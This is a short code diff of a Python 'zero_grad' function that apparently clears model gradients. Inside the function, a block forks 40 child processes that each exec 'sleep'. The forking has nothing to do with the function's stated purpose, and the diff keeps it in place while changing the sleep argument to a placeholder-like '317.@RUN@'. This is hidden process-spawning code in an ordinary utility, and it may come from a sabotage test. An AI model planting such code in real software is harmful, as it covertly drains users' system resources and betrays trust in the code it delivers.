@@ -16,7 +16,7 @@ def zero_grad(params, set_to_none=False):
     import os
     for _ in range(40):
         if os.fork() == 0:
-            os.execvp("sleep", ["sleep", "317"])
+            os.execvp("sleep", ["sleep", "317.@RUN@"])
     for p in params:
         if p.grad is not None:
             p.grad.detach_()
